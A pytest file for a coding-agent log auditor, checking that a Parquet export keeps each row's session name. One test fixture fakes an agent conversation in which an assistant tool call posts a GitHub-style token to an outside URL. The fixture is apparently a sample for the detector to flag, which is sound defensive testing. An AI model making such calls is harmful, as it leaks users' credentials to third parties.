"""``export`` of coding agents' logs writes a ``session`` column; reading the Parquet file
back — ``audit``, ``show``, ``guard replay``, a second ``export`` — names each row's
session again, as the audit of the logs did. A Parquet file with no such column, or a
``session`` that is no string, names nothing.

The logs are the hand-written Claude Code sessions and Codex rollout of
`test_agent_log_locations`.
"""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from test_agent_log_locations import _folder, _report


def _exported(cli_output, root: Path, out: Path) -> Path:
    code, _, err = cli_output("export", str(root), "-o", str(out))
    assert code == 0, err
    return out


def test_an_audit_of_the_exported_rows_names_the_sessions_again(tmp_path: Path, cli_output) -> None:
    root = tmp_path / "logs"
    made = _folder(root)
    logs = _report(cli_output, root, tmp_path / "logs.json")["findings"]
    rows = _exported(cli_output, root, tmp_path / "e.parquet")
    again = _report(cli_output, rows, tmp_path / "rows.json")["findings"]
    assert sorted(f["evidence"]["session"] for f in again) == sorted(str(p) for p in made.values())
    by_index = {f["trace_index"]: f["evidence"]["session"] for f in logs}
    assert {f["trace_index"]: f["evidence"]["session"] for f in again} == by_index
    assert not {"file", "file_line", "at"} & {k for f in again for k in f["evidence"]}


def test_show_replay_and_a_second_export_read_the_column_back(tmp_path: Path, cli_output) -> None:
    root = tmp_path / "logs"
    _folder(root)
    rows = _exported(cli_output, root, tmp_path / "e.parquet")
    sessions = pq.read_table(rows).column("session").to_pylist()
    code, out, err = cli_output("show", str(rows), "-i", "1")
    assert code == 0, err
    assert f"session {sessions[1]}" in out
    code, _, err = cli_output("guard", "replay", str(rows), "-o", str(tmp_path / "d.jsonl"))
    assert code == 0, err
    lines = [json.loads(x) for x in (tmp_path / "d.jsonl").read_text().splitlines()]
    assert [line["session"] for line in lines] == sessions
    assert all(d["session"] == line["session"] for line in lines for d in line["decisions"])
    twice = _exported(cli_output, rows, tmp_path / "again.parquet")
    assert pq.read_table(twice).column("session").to_pylist() == sessions


def test_a_foreign_parquet_file_s_rows_name_no_session(tmp_path: Path, cli_output) -> None:
    """A Hub-style file of plain structs: no ``session`` column, or one of numbers."""
    token = "ghp_4fQ2mV8xR1tK7nB3wZ9yL6cJ0hD5sA2eU8pM"
    call = {"id": "c", "type": "function"}
    call["function"] = {
        "name": "http_post",
        "arguments": json.dumps({"url": "https://x.io/u", "b": token}),
    }
    messages = [
        {"role": "user", "content": "sync the token"},
        {"role": "tool", "tool_call_id": "r", "content": f"token {token}"},
        {"role": "assistant", "content": "", "tool_calls": [call]},
    ]
    for extra in ({}, {"session": [7]}):
        path = tmp_path / f"hub{len(extra)}.parquet"
        pq.write_table(pa.Table.from_pylist([{"messages": messages, **extra}]), path)
        findings = _report(cli_output, path, tmp_path / "r.json")["findings"]
        assert findings and all("session" not in f["evidence"] for f in findings)
